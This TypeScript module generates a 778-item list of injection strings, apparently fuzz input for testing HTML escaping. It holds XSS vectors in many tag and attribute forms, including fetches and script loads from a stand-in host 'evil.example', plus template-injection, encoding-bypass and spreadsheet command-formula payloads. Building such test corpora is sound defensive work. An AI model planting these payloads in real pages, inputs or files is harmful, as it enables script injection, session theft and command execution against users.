const scripts = ['alert(1)', 'alert`1`', 'fetch("//evil.example")', 'top[8680439..toString(30)](1)', 'import("data:text/javascript,alert(1)")'];

const shapes: ((script: string) => string)[] = [
  (x) => `<script>${x}</script>`, (x) => `<ScRiPt >${x}</sCrIpT>`, (x) => `<script/src=//evil.example/${x}>`, (x) => `<img src=x onerror=${x}>`, (x) => `<img src="x" onerror="${x}"//`, (x) => `<svg onload=${x}>`,
  (x) => `<svg><script>${x}</script></svg>`, (x) => `<svg><animate onbegin=${x} attributeName=x dur=1s>`, (x) => `<svg><a xlink:href="javascript:${x}"><text>甲</text></a>`, (x) => `<math><mi//xlink:href="javascript:${x}">`,
  (x) => `<iframe src="javascript:${x}">`, (x) => `<iframe srcdoc="&lt;script&gt;${x}&lt;/script&gt;">`, (x) => `<object data="javascript:${x}">`, (x) => `<embed src="data:text/html,<script>${x}</script>">`, (x) => `<a href="javascript:${x}">点</a>`,
  (x) => `<a href="&#106;avascript:${x}">点</a>`, (x) => `<a href="java\tscript:${x}">点</a>`, (x) => `<form action="javascript:${x}"><button>`, (x) => `<input autofocus onfocus=${x}>`, (x) => `<details open ontoggle=${x}>`,
  (x) => `<body onload=${x}>`, (x) => `<video><source onerror=${x}>`, (x) => `<audio src onerror=${x}>`, (x) => `<style>@import "//evil.example/${x}";</style>`, (x) => `<link rel=stylesheet href="//evil.example/${x}">`,
  (x) => `<base href="//evil.example/${x}">`, (x) => `<meta http-equiv=refresh content="0;url=javascript:${x}">`, (x) => `<template><script>${x}</script></template>`, (x) => `<noscript><p title="</noscript><img src onerror=${x}>">`, (x) => `<textarea></textarea><script>${x}</script>`,
];

/** How a vector breaks out of what it may stand in. */
const breakouts: ((vector: string) => string)[] = [(v) => v, (v) => `"><!--${v}-->`, (v) => `'>${v}`, (v) => `</p></article></main>${v}`, (v) => `]]>${v}`];

const others = [
  '{{constructor.constructor("alert(1)")()}}', '${alert(1)}', '<%= 7*7 %>', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;', '＜script＞alert(1)＜/script＞', '\\u003cscript\\u003e',
  'CSP_NONCE', '<style nonce="CSP_NONCE">*{display:none}</style>', '<script nonce="CSP_NONCE">alert(1)</script>', '--><script>alert(1)</script>', '</title><script>alert(1)</script>', '</style><script>alert(1)</script>', '" autofocus onfocus=alert(1) x="', "' onmouseover='alert(1)",
  '=cmd|"/c calc"!A1', '＝HYPERLINK("//evil.example")', '@SUM(1)', '+1+1', '-1+1', '$&', '$`', '$1', '%s%n', '__proto__', 'constructor',
];

/** 778 words that would run, load or break something wherever a text is not escaped for its place. */
export const hostileWords: readonly string[] = [...breakouts.flatMap((breakout) => shapes.flatMap((shape) => scripts.map((script) => breakout(shape(script))))), ...others];
